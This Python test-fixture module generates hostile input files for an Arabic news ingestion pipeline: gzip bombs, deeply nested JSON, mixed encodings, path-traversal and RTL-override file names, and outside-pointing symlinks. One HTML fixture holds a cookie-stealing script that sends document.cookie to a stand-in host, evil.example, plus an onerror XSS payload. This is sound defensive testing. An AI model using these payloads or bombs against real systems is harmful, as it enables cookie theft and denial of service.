"""A set of hostile input files, generated at test time (the big ones are never committed).

Each ``Case`` says what must happen to its file when it is ingested together with the others:
rejected with a reason that names the problem, or accepted (and then the test checks the
stored text). ``write_hostile_set`` writes them all into one folder.
"""

from __future__ import annotations

import gzip
import json
import os
import random
from dataclasses import dataclass
from pathlib import Path

MB = 1_000_000

# Real Arabic news text (short sentences from the kind of reports the product indexes).
ARABIC = (
    "أعلنت الحكومة العراقية اليوم أن مهمة التحالف الدولي ستنتهي في العام المقبل. "
    "وقال مسؤول كبير إن المستشارين العسكريين سيبقون لمساعدة القوات العراقية في مكافحة الإرهاب. "
)
ARABIC_CP1256 = "صحيفة محلية: افتتح معرض الكتاب في عمّان بمشاركة مئتي دار نشر من اثنتي عشرة دولة عربية."
ARABIC_UTF16 = "نشرة الطقس: أمطار غزيرة متوقعة على السواحل الشمالية مع انخفاض في درجات الحرارة."
MIXED_LINE_UTF8 = "وصل وفد الأمم المتحدة إلى دمشق صباح الثلاثاء لبحث ملف المساعدات الإنسانية."
MIXED_LINE_CP1256 = "قال وزير الزراعة إن محصول القمح هذا العام تجاوز التوقعات بنسبة عشرة في المئة."
HTML_BODY = "تظاهر آلاف الطلاب في العاصمة للمطالبة بإصلاح نظام الامتحانات الوطنية وتحسين المناهج الدراسية."
SCRIPT_MARKER = "stealTheCookies"
LONG_LINE_WORDS = 3_000  # one line, no sentence end: cut at word boundaries into several chunks
BACKSLASH_NAME = "x..\\..\\evil.txt"  # a legal file name on Linux; must not be read as a path


@dataclass(frozen=True)
class Case:
    """One hostile file and what must happen to it.

    ``rejected``: reason fragments every rejection of this file must contain (one per rejection:
    a JSON Lines file may have several, each naming its line). ``accepted``: how many articles
    it must yield.
    """

    name: str
    what: str
    rejected: tuple[str, ...] = ()
    accepted: int = 0


def _jsonl(*records: object) -> str:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records)


def _write(path: Path, content: str | bytes) -> None:
    path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)


def _gzip_bomb(path: Path, prefix: bytes, expanded_bytes: int) -> None:
    """A small gzip file that expands to ``expanded_bytes`` of one repeated letter."""
    block = b"a" * MB
    with gzip.open(path, "wb", compresslevel=9) as out:
        out.write(prefix)
        for _ in range(expanded_bytes // MB):
            out.write(block)


def write_hostile_set(folder: Path, outside_file: Path, max_file_bytes: int) -> list[Case]:
    """Write the hostile files into ``folder``; ``outside_file`` is a file outside it (a link
    target). ``max_file_bytes`` is the ingest limit in force, so "huge" means over it."""
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(6)
    cases: list[Case] = []

    def add(name: str, content: str | bytes, what: str, rejected: tuple[str, ...] = (), accepted: int = 0) -> None:
        _write(folder / name, content)
        cases.append(Case(name, what, rejected, accepted))

    add("empty.txt", b"", "an empty file", rejected=("empty file",))
    add("bom_only.txt", b"\xef\xbb\xbf", "only a UTF-8 byte-order mark", rejected=("empty file",))
    add("whitespace_only.md", " \n\t\r\n   \n" * 500, "only whitespace", rejected=("only whitespace",))
    add("random_bytes.txt", bytes(rng.randrange(256) for _ in range(50_000)), "random bytes",
        rejected=("binary file",))
    add("image.html", b"\x89PNG\r\n\x1a\n" + bytes(2000), "a PNG named .html", rejected=("PNG image",))
    add("nul_early.txt", ARABIC.encode() + b"\x00\x00" + ARABIC.encode(), "NUL bytes in the first 8 KB",
        rejected=("binary file",))
    add("nul_late.txt", (ARABIC * 100).encode() + bytes(4096), "text padded with NUL bytes after 8 KB",
        rejected=("NUL bytes",))
    add("latin1.txt", "Le président a déclaré à la presse : « c'est très grave ».\n".encode("latin-1") * 20,
        "invalid UTF-8 (Latin-1 French)", rejected=("cannot decode",))
    add("mixed_encodings.txt", (MIXED_LINE_UTF8 + "\n").encode() + (MIXED_LINE_CP1256 + "\n").encode("cp1256"),
        "UTF-8 and Windows-1256 in one text file", rejected=("cannot decode",))
    add("deep_nesting.json", "[" * 200_000 + "]" * 200_000, "JSON nested 200,000 deep",
        rejected=("nested too deeply",))
    add("deep_nesting_line.jsonl", "{\"a\":" * 100_000 + "1" + "}" * 100_000 + "\n", "a JSON Lines record nested "
        "100,000 deep", rejected=("nested too deeply",))
    add("malformed.json", '{"title": "x", "text": "unterminated', "malformed JSON",
        rejected=("malformed JSON at line",))
    add("not_an_article.json", "[1, 2, 3]", "JSON numbers, not articles",
        rejected=("not an article",) * 3)
    add("text_not_a_string.json", json.dumps({"title": "t", "text": ["a", "b"]}), "text is a list",
        rejected=("no text",))
    add("bad_lines.jsonl",
        _jsonl({"text": ARABIC + "سطر أول صالح."}) + "{broken json\n" + _jsonl([1, 2], {"title": "no text"}),
        "JSON Lines with one good and three bad lines",
        rejected=("malformed JSON", "not an article", "no text"), accepted=1)
    add("[bold red]loud[link=http:evil.example].txt", b"", "an empty file whose name is terminal markup",
        rejected=("empty file",))
    add("report.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "a PDF", rejected=("unsupported file type",))
    add("setup.exe", b"MZ\x90\x00" + bytes(1000), "a Windows program", rejected=("unsupported file type",))

    # Big and compressed: each must be refused without being read whole into memory.
    huge = folder / "huge_50mb.txt"
    with huge.open("wb") as out:
        line = (ARABIC + "\n").encode()
        for _ in range(50 * MB // len(line) + 1):
            out.write(line)
    cases.append(Case(huge.name, "a 50 MB text file", rejected=("over the",)))
    huge_line = folder / "huge_line_50mb.jsonl"
    with huge_line.open("wb") as out:
        out.write(b'{"text": "')
        for _ in range(50):
            out.write(b"x" * MB)
        out.write(b'"}\n')
        out.write(_jsonl({"text": ARABIC + "السطر الثاني صالح."}).encode())
    cases.append(Case(huge_line.name, "a 50 MB line, then a good one", rejected=("line is longer than",), accepted=1))
    bomb_bytes = max_file_bytes * 12  # past the 10x expansion limit
    _gzip_bomb(folder / "bomb.jsonl.gz", b'{"text": "', bomb_bytes)
    cases.append(Case("bomb.jsonl.gz", "a gzip bomb (JSON Lines)", rejected=("expands to more than",)))
    _gzip_bomb(folder / "bomb.json.gz", b'{"text": "', bomb_bytes)
    cases.append(Case("bomb.json.gz", "a gzip bomb (JSON)", rejected=("expands to more than",)))
    good_gz = gzip.compress(_jsonl(*({"text": f"{ARABIC} خبر رقم {n}."} for n in range(8))).encode())
    add("truncated.jsonl.gz", good_gz[: len(good_gz) // 2], "a truncated gzip file", rejected=("truncated or corrupt",),
        accepted=-1)  # -1: whatever records precede the cut are kept
    add("not_gzip.jsonl.gz", _jsonl({"text": ARABIC}), "plain text named .gz", rejected=("not a valid gzip file",))

    # Accepted: must be decoded or cleaned correctly.
    add("arabic_cp1256.txt", ARABIC_CP1256.encode("cp1256"), "Arabic in Windows-1256", accepted=1)
    add("arabic_utf16.txt", ARABIC_UTF16.encode("utf-16"), "Arabic in UTF-16 with a BOM", accepted=1)
    add("mixed_lines.jsonl", _jsonl({"text": MIXED_LINE_UTF8}).encode() + _jsonl({"text": MIXED_LINE_CP1256})
        .encode("cp1256"), "JSON Lines: one line UTF-8, one Windows-1256", accepted=2)
    add("script.html",
        f"<html><head><title>مظاهرات الطلاب</title><script>var {SCRIPT_MARKER} = document.cookie;</script>"
        f"<style>body{{display:none}}</style></head><body><article><p>{HTML_BODY}</p>"
        f"<script>fetch('http://evil.example/?c=' + {SCRIPT_MARKER});</script><p>{ARABIC}</p></article>"
        "<img src=x onerror=alert(1)></body></html>",
        "HTML with scripts and an onerror handler", accepted=1)
    words = ARABIC.replace(".", "").split()
    add("long_line.txt", " ".join(words[i % len(words)] for i in range(LONG_LINE_WORDS)), "one very long line "
        "without a sentence end", accepted=1)
    add(BACKSLASH_NAME, ARABIC + " ملف باسم غريب.", "a name full of ..\\ (a path on Windows)", accepted=1)
    add("name with\nnewline and \u202eRTL override.txt", ARABIC + " ملف باسم فيه سطر جديد.",
        "a name with a newline and an RTL override character", accepted=1)

    # Things that are not regular files inside the folder.
    os.mkfifo(folder / "pipe.txt")  # reading it would block forever
    cases.append(Case("pipe.txt", "a named pipe", rejected=("not a regular file",)))
    (folder / "outside.txt").symlink_to(outside_file)
    cases.append(Case("outside.txt", "a link to a file outside the folder", rejected=("link points outside",)))
    (folder / "escape").symlink_to(outside_file.parent, target_is_directory=True)
    cases.append(Case("escape", "a link to a folder outside the folder", rejected=("link points outside",)))
    return cases
